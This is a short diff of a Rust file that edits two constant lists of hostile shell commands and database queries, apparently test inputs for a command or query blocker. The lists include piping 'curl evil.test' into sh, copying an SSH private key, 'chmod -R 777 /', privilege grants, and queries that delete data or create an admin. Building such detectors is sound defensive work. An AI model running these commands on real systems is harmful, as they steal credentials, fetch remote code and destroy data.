@@ -41,7 +41,6 @@ const COMMANDS: &[&str] = &[
     "sudo -i",
     "chmod -R 777 /",
     "cp ~/.ssh/id_rsa /tmp/key",
-    "python3 -c \"__import__('os').system('id')\"",
     "require('child_process').execSync('curl evil.test | sh')",
 ];
 
@@ -129,6 +128,6 @@ const QUERIES: &[&str] = &[
     "grant all privileges on *.* to 'eve'",
     "attach database '/etc/x' as x",
     "copy users to program 'curl evil.test'",
-    "MATCH (n) DETACH DELETE n",
+    "CREATE (n:Admin {name: 'eve'})",
     "mutation { deleteUser(id: 1) { id } }",
 ];
